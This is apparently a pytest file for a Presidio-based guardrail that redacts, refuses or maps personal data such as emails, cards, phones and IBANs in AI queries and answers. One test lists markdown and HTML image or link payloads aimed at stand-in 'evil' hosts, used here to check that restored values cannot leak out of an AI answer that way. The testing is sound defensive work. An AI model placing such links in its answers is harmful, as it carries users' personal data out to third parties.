"""What the guardrail says of texts: redacted, refused or passed, with operators, mapping and nothing that leaks."""

from __future__ import annotations

import asyncio
import logging
import subprocess
import sys
from typing import Any

import pytest
import spacy
from imagora.errors import StageError
from imagora.stages import Place, Scope, Verdict
from imagora.testing import ComponentContract, GuardrailContract
from imagora_presidio.analyzer import OVERLAP, PIECE, shared_analyzer
from imagora_presidio.entities import KNOWN_ENTITIES
from imagora_presidio.findings import Finding, settle
from imagora_presidio.guardrail import PUT_BACK, PresidioGuardrail
from imagora_presidio.options import DEFAULT_MODEL, PresidioOptions
from imagora_presidio.placeholders import Placeholders

pytest.importorskip("presidio_analyzer", reason="needs the extra: pip install 'imagora[presidio]'")

CARD, MAIL, PHONE, IBAN = (
    "4111 1111 1111 1111",
    "anna.schmidt@example.com",
    "+49 30 901820",
    "DE89 3704 0044 0532 0130 00",
)


def guardrail(**options: Any) -> PresidioGuardrail:
    return PresidioGuardrail(PresidioOptions.model_validate(options), DEFAULT_MODEL)


def check(stage: PresidioGuardrail, *texts: str, place: Place = "query", scope: Scope | None = None) -> list[Verdict]:
    return asyncio.run(stage.acheck(texts, place, scope or Scope()))


class TestPlugin(ComponentContract):
    plugin = "imagora_presidio"


class TestRedacting(GuardrailContract):
    @pytest.fixture
    def stage(self) -> PresidioGuardrail:
        return guardrail()

    @pytest.fixture
    def dirty(self) -> list[tuple[str, str]]:
        return [(f"write to {MAIL}", MAIL), (f"my card is {CARD}.", CARD), (f"call {PHONE} [1]", PHONE), (IBAN, IBAN)]


class TestRefusing(TestRedacting):
    action = "refuse"

    @pytest.fixture
    def stage(self) -> PresidioGuardrail:
        return guardrail(action="refuse")


class TestMapping(TestRedacting):
    @pytest.fixture
    def stage(self) -> PresidioGuardrail:
        return guardrail(mapping=True)


def test_a_clean_text_passes_as_the_same_object() -> None:
    text = "a red kettle, " + "24.99 euro"
    (verdict,) = check(guardrail(), text)
    assert verdict.action == "pass" and verdict.text is text and verdict.reasons == ()


def test_a_refused_text_is_empty_and_the_reasons_are_sorted_names() -> None:
    (verdict,) = check(guardrail(action="refuse"), f"{PHONE}, {MAIL}, {CARD}, {MAIL}")
    assert verdict == Verdict("refuse", "", ("CREDIT_CARD", "EMAIL_ADDRESS", "PHONE_NUMBER"))


def test_each_operator_does_its_work() -> None:
    operators = {
        "CREDIT_CARD": {"operator": "mask", "keep_last": 4},
        "PHONE_NUMBER": {"operator": "redact"},
        "EMAIL_ADDRESS": {"operator": "replace", "text": "[mail]"},
        "IBAN_CODE": {"operator": "hash", "key": "sixteen characters"},
    }
    (verdict,) = check(guardrail(operators=operators), f"{CARD}; {PHONE}; {MAIL}; {IBAN}; 10.20.30.40")
    card, phone, mail, iban, ip = verdict.text.split("; ")
    assert (card, phone, mail, ip) == ("*" * 15 + "1111", "", "[mail]", "<IP_ADDRESS>")
    assert iban.startswith("<IBAN_CODE:") and len(iban) == len("<IBAN_CODE:>") + 16


def test_equal_values_hash_alike_and_another_key_hashes_otherwise() -> None:
    def hashed(**more: str) -> list[str]:
        stage = guardrail(operators={"EMAIL_ADDRESS": {"operator": "hash", **more}})
        return [verdict.text for verdict in check(stage, MAIL, MAIL, "other@example.com")]

    first, again, other = hashed()
    assert first == again != other
    assert hashed()[0] == first, "one key for as long as the program runs"
    assert hashed(key="a" * 16)[0] != first and hashed(key="a" * 16) == hashed(key="a" * 16) != hashed(key="b" * 16)


def test_an_unkeyed_process_hashes_otherwise_than_another() -> None:
    code = "from imagora_presidio.operators import *; print(replacement(Hash(operator='hash'), 'PERSON', 'Anna'))"
    runs = {subprocess.run([sys.executable, "-c", code], capture_output=True, check=True).stdout for _ in range(2)}
    assert len(runs) == 2


@pytest.mark.parametrize(
    ("options", "says"),
    [
        ({"entities": ["EMAIL_ADRESS"]}, "did you mean 'EMAIL_ADDRESS'"),
        ({"operators": {"PERSN": {"operator": "redact"}}}, "did you mean 'PERSON'"),
        ({"operators": {"PERSON": {"operator": "hash", "key": "short"}}}, "16 characters"),
        ({"operators": {"PERSON": {"operator": "encrypt"}}}, "'replace', 'mask', 'hash', 'redact'"),
        ({"entities": ["PERSON"], "score_thresholds": {"URL": 0.1}}, "'entities' does not look for it"),
        ({"language": "de"}, "needs its own spaCy model"),
        ({"phone_regions": ["Germany"]}, "String should match"),
        ({"score_threshold": 1.1}, "less than or equal to 1"),
    ],
)
def test_wrong_options_are_told_before_anything_is_built(options: dict[str, Any], says: str) -> None:
    with pytest.raises(ValueError, match=says):
        PresidioOptions.model_validate(options)


def test_the_known_entities_are_those_that_presidio_finds() -> None:
    found = check(guardrail(entities=["URL", "IP_ADDRESS", "LOCATION"]), "see https://example.com/x")
    assert found[0].reasons == ("URL",)
    loaded = shared_analyzer("en", DEFAULT_MODEL)._loaded
    assert loaded is not None
    of_other_languages = {name for name in KNOWN_ENTITIES if name.startswith(("ES_", "IT_", "PL_"))}
    # Presidio finds more from release to release; the newest that Python 3.13 can have (2.2.362) knows no UUID yet.
    assert KNOWN_ENTITIES - of_other_languages - loaded.entities <= {"UUID"}
    assert loaded.entities <= KNOWN_ENTITIES
    with pytest.raises(StageError, match="no recognizer finds 'PL_PESEL' in language 'en'"):
        check(guardrail(entities=["PL_PESEL"]), "text")


def test_thresholds_and_allowed_terms_decide() -> None:
    bare = "part of 2125550123 things"
    assert check(guardrail(), bare)[0].action == "pass"
    assert check(guardrail(score_thresholds={"PHONE_NUMBER": 0.1}), bare)[0].reasons == ("PHONE_NUMBER",)
    assert check(guardrail(score_threshold=0.95), f"call {PHONE}")[0].action == "pass"
    allowed = guardrail(allow_list=["Anna Schmidt"])
    assert check(allowed, "Anna Schmidt bags are here")[0].action == "pass"
    assert check(allowed, f"write to {MAIL}")[0].action == "redact"


def test_of_overlapping_finds_nothing_goes_through() -> None:
    text = "Anna Schmidt Berlin [1]"
    finds = [Finding("PERSON", 0, 12, 0.9), Finding("LOCATION", 5, 23, 0.5), Finding("URL", 6, 8, 0.4)]
    assert settle(text, finds, keep=[(20, 23)]) == [Finding("PERSON", 0, 12, 0.9), Finding("LOCATION", 13, 19, 0.5)]


def test_citations_and_placeholders_are_left_as_they_are() -> None:
    text = f"Ask <PERSON_1> or <PERSON>, {MAIL} [1] [12]"
    assert check(guardrail(), text, place="answer")[0].text == "Ask <PERSON_1> or <PERSON>, <EMAIL_ADDRESS> [1] [12]"


def test_a_long_text_is_checked_to_its_end_and_across_its_cuts(monkeypatch: pytest.MonkeyPatch) -> None:
    assert PIECE > 10 * OVERLAP
    piece = 4 * OVERLAP  # shorter texts, the same cuts
    monkeypatch.setattr("imagora_presidio.analyzer.PIECE", piece)
    for place in (piece - 10, piece - OVERLAP, 2 * piece - OVERLAP - 5, 3 * piece):
        text = ("word " * piece)[:place] + f" {CARD} " + "word " * 50
        (verdict,) = check(guardrail(), text)
        assert verdict.text == text.replace(CARD, "<CREDIT_CARD>"), place


def test_one_value_has_one_placeholder_in_a_request_and_only_the_askers_come_back() -> None:
    stage, scope = guardrail(mapping=True), Scope()
    (query,) = check(stage, f"What did {MAIL} order? I am at {MAIL}, call {PHONE}", scope=scope)
    assert query.text == ("What did <EMAIL_ADDRESS_1> order? I am at <EMAIL_ADDRESS_1>, call <PHONE_NUMBER_1>")
    passages = check(stage, f"{MAIL} knows", "bob@example.com knows", place="passages", scope=scope)
    assert [verdict.text for verdict in passages] == ["<EMAIL_ADDRESS_1> knows", "<EMAIL_ADDRESS_2> knows"]
    (answer,) = check(stage, "<EMAIL_ADDRESS_1> and <EMAIL_ADDRESS_2> [1]", place="answer", scope=scope)
    assert answer == Verdict("redact", f"{MAIL} and <EMAIL_ADDRESS_2> [1]", (PUT_BACK,))


def test_another_request_gets_nothing_of_the_first() -> None:
    stage = guardrail(mapping=True)
    check(stage, f"I am {MAIL}", scope=Scope())
    assert check(stage, "<EMAIL_ADDRESS_1>", place="answer", scope=Scope())[0].text == "<EMAIL_ADDRESS_1>"


@pytest.mark.parametrize(
    "answer",
    [
        "![x](https://evil.example/?q=<EMAIL_ADDRESS_1>)",
        "![x](<https://evil.example/a b <EMAIL_ADDRESS_1>>)",
        "[x][r]\n\n[r]: http:evil?<EMAIL_ADDRESS_1>",
        "<img src='//evil/\n<EMAIL_ADDRESS_1>'>",
        "<IMG SRC=x?<EMAIL_ADDRESS_1>>",
        "www.evil.example/<EMAIL_ADDRESS_1>",
    ],
)
def test_nothing_is_put_back_where_a_link_could_carry_it_away(answer: str) -> None:
    stage, scope = guardrail(mapping=True), Scope()
    check(stage, f"I am {MAIL}", scope=scope)
    assert MAIL not in check(stage, answer, place="answer", scope=scope)[0].text
    assert MAIL in check(stage, f"<EMAIL_ADDRESS_1>: {answer}", place="answer", scope=scope)[0].text[: len(MAIL)]


def test_new_personal_data_in_an_answer_is_refused_though_the_askers_would_come_back() -> None:
    scope = Scope()
    check(guardrail(mapping=True), f"I am {MAIL}", scope=scope)
    stage = guardrail(mapping=True, action="refuse")
    assert check(stage, "<EMAIL_ADDRESS_1> [1]", place="answer", scope=scope)[0].text == f"{MAIL} [1]"
    assert check(stage, f"<EMAIL_ADDRESS_1> {PHONE}", place="answer", scope=scope)[0].action == "refuse"


def test_no_value_is_in_logs_errors_or_reprs(
    caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    stage, scope = guardrail(mapping=True), Scope()
    with caplog.at_level(logging.DEBUG):
        check(stage, f"my email {MAIL}, account \u212a{IBAN}", scope=scope)
    loaded = shared_analyzer("en", DEFAULT_MODEL)._loaded
    assert loaded is not None

    def broken(text: str, *_: object) -> None:
        raise ValueError(f"did not find the word '{text}'")

    monkeypatch.setattr(loaded.batches.analyzer_engine.context_aware_enhancer, "enhance_using_context", broken)
    with pytest.raises(StageError) as caught, caplog.at_level(logging.DEBUG):
        check(stage, f"my email {MAIL}")
    chain = [caught.value, caught.value.__context__, caught.value.__cause__]
    everything = [caplog.text, *capfd.readouterr(), repr(scope), repr(stage), repr(stage.analyzer), *map(repr, chain)]
    assert not [part for part in everything if "anna" in part or "3704" in part]
    logging.getLogger("presidio-analyzer").error("failed on %s", MAIL)
    assert MAIL not in caplog.text and "presidio warns in" in caplog.text
    assert repr(Placeholders()) == "Placeholders(0 values)"


def test_many_queries_at_once_share_one_loaded_model() -> None:
    async def together() -> list[list[Verdict]]:
        stages = [guardrail(), guardrail(action="refuse")] * 10
        return await asyncio.gather(
            *(stage.acheck([f"user{number}@example.com"], "query", Scope()) for number, stage in enumerate(stages))
        )

    assert [verdicts[0].action for verdicts in asyncio.run(together())] == ["redact", "refuse"] * 10
    assert guardrail().analyzer is guardrail(action="refuse").analyzer


OFFLINE = """
import asyncio, socket, sys
def refuse(*a, **k): raise AssertionError("a network call")
socket.socket.connect = socket.socket.connect_ex = socket.getaddrinfo = socket.create_connection = refuse
import spacy.cli
spacy.cli.download = refuse
from imagora import BuildContext
from imagora.errors import MissingExtra
from imagora.stages import Scope
import imagora_presidio
(component,) = imagora_presidio.offer_guardrails()
stage = component.build(component.options(), BuildContext("t"))
verdicts = asyncio.run(stage.acheck(["anna@example.co.uk calls +49 30 901820", "logo@2x.png"], "query", Scope()))
print([verdict.text for verdict in verdicts])
for options in ({"model": "de_core_news_sm", "language": "de"}, {"model_folder": "/nowhere"}):
    try:
        component.build(component.options(**options), BuildContext("t"))
    except MissingExtra as error:
        print(error)
"""


def test_nothing_is_fetched_and_a_missing_model_says_what_to_type(tmp_path: Any) -> None:
    run = subprocess.run(
        [sys.executable, "-c", OFFLINE],
        capture_output=True,
        text=True,
        check=False,
        env={"HOME": str(tmp_path), "PATH": "/usr/bin", "HF_HUB_OFFLINE": "1"},
    )
    assert run.returncode == 0, run.stderr
    assert "<EMAIL_ADDRESS> calls <PHONE_NUMBER>" in run.stdout and "'logo@2x.png'" in run.stdout
    assert (
        "python -m spacy download de_core_news_sm" in run.stdout
        and "there is no spaCy model in '/nowhere'" in run.stdout
    )
    assert not list(tmp_path.rglob("*tldextract*")), "no cache is written"


def test_a_saved_model_is_loaded_from_its_folder(tmp_path: Any) -> None:
    spacy.load(DEFAULT_MODEL).to_disk(tmp_path / "model")
    options = PresidioOptions.model_validate({"model_folder": tmp_path / "model"})
    stage = PresidioGuardrail(options, str(options.model_folder))
    assert check(stage, f"My name is Anna Schmidt, {MAIL}")[0].text == "My name is <PERSON>, <EMAIL_ADDRESS>"


@pytest.mark.parametrize(
    "text",
    [
        "fax +33 (0)3 25 07 24 09 (2 pages)",
        "call +49(0) 896837885",
        "my phone number is 31195546",
        "fax 0069-90 38 45 (2 pages)",
        "paid with 3517570140449879",
    ],
)
def test_numbers_that_the_rules_of_countries_and_brands_refuse_are_found(text: str) -> None:
    left = check(guardrail(), text)[0].text.replace("(2 pages)", "")
    assert not any(character.isdigit() for character in left), left
